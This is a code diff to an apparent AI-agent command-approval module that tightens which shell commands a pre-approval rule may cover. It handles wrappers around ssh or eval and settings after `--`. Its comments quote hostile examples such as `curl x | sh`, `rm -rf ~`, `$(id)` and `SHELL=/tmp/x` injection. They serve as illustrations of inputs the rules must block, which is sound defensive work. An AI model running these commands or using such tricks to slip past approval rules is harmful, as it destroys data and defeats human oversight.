@@ -7,9 +7,9 @@
  *   `npm testx`, and never a command with an operator or an expansion (`npm test; curl x | sh`,
  *   `npm test && rm -rf ~`, `npm test $(id)`), which does not parse to words at all.
  * - `exact`: the whole command (or a tool's JSON arguments), character for character. What a request gets
- *   when its command has operators, when it is the program alone, when the program joins its arguments
- *   into code (eval, ssh, watch…: a prefix of such a command is not a prefix of what runs), or when the tool
- *   takes arguments rather than a command line.
+ *   when its command has operators, when it is the program alone, when a program in it joins its arguments
+ *   into code (eval, ssh, watch…, first or behind a wrapper like `timeout 30 ssh`: a prefix of such a command is
+ *   not a prefix of what runs), or when the tool takes arguments rather than a command line.
  *
  * A rule's scope is one session (kept until the session's tool server is closed) or global (kept until revoked).
  * The glob rules of earlier versions (`always:*` approved everything) are dropped when the store opens.
@@ -47,6 +47,15 @@ const JOINS_ARGUMENTS = new Set(['eval', 'builtin', 'command', 'trap', 'ssh', 'w
 
 const TOOL_NAME = /^[A-Za-z0-9_.-]+$/;
 
+/**
+ * The first word naming a program that joins its arguments into code — anywhere in the command, not only first:
+ * behind a wrapper (`timeout 30 ssh host uptime`, `env ssh …`, `nice`, `sudo`, `exec`, `xargs`…) it gets the
+ * added words all the same (`… uptime ';' rm -rf ~` runs on the remote shell).
+ */
+function joiner(words: string[]): string | undefined {
+  return words.map((w) => w.replace(/^.*\//, '')).find((w) => JOINS_ARGUMENTS.has(w));
+}
+
 /** The part of a request a rule is about: its command line, or the JSON arguments after the tool name. */
 function subjectText(s: RuleSubject): string {
   return s.command ?? s.cmd.slice(s.tool.length + 1);
@@ -60,8 +69,7 @@ export function ruleFor(s: RuleSubject): RuleSpec | { refused: string } {
   if (s.command !== undefined) {
     const parsed = shellWords(s.command);
     if ('words' in parsed) {
-      const program = parsed.words[0]!.replace(/^.*\//, '');
-      if (parsed.words.length > 1 && !JOINS_ARGUMENTS.has(program)) return { tool: s.tool, kind: 'prefix', rule: quoteWords(parsed.words) };
+      if (parsed.words.length > 1 && !joiner(parsed.words)) return { tool: s.tool, kind: 'prefix', rule: quoteWords(parsed.words) };
     }
   }
   return [...text].some(hiddenChar)
@@ -81,8 +89,8 @@ export function checkRule(r: RuleSpec): void {
   const parsed = shellWords(r.rule);
   if ('refused' in parsed) throw new Error(`bypass rule ${JSON.stringify(r.rule)}: not a plain command (${parsed.refused}); wildcards, operators and expansions are never rules`);
   if (parsed.words.length < 2) throw new Error(`bypass rule ${JSON.stringify(r.rule)}: too broad; a prefix rule names the program and at least one argument`);
-  const program = parsed.words[0]!.replace(/^.*\//, '');
-  if (JOINS_ARGUMENTS.has(program)) throw new Error(`bypass rule ${JSON.stringify(r.rule)}: ${program} joins its arguments into code, so only an exact rule can name it`);
+  const program = joiner(parsed.words);
+  if (program) throw new Error(`bypass rule ${JSON.stringify(r.rule)}: ${program} joins its arguments into code, so only an exact rule can name it`);
 }
 
 /** Whether rule `r` covers the request `s`. */
@@ -100,15 +108,19 @@ export function ruleMatches(r: RuleSpec, s: RuleSubject): boolean {
 /**
  * The words a request adds to a prefix rule may be operands, not options or settings: `find . -name x` must not
  * become `find . -name x -exec sh -c …`, nor `git log` `git log --output=~/.bashrc`, nor `make test`
- * `make test SHELL=/tmp/x`. After a `--` (in the rule or added) everything is an operand by convention, which is
- * how `npm test -- --watch` hands its options to the test runner.
+ * `make test SHELL=/tmp/x` (nor `make test -- SHELL=/tmp/x`: make reads settings after `--` too). After a `--` (in
+ * the rule or added) every other word is an operand by convention, which is how `npm test -- --watch` hands its
+ * options to the test runner; a `NAME=value` word never is, there or anywhere.
  */
 function addedWordsArePlain(rule: string[], added: string[]): boolean {
   let operands = rule.includes('--');
   for (const w of added) {
+    // A setting stays a setting after `--`: GNU make reads `make test -- SHELL=./x` as SHELL=./x all the same
+    // (and dd its `of=`). Only an option's own `--opt=value`, for the program the `--` hands words on to, passes.
+    if (w.includes('=') && !(operands && w.startsWith('-'))) return false;
     if (operands) continue;
     if (w === '--') operands = true;
-    else if (w.startsWith('-') || w.includes('=')) return false;
+    else if (w.startsWith('-')) return false;
   }
   return true;
 }
